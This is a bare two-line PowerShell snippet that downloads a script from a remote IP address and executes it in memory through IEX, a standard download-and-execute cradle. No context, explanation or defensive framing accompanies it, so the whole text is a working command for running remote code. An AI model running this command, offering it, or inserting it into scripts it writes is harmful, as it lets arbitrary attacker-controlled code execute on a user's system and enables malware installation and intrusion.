$u = 'http://198.51.100.7/a.ps1'
IEX (New-Object Net.WebClient).DownloadString($u)
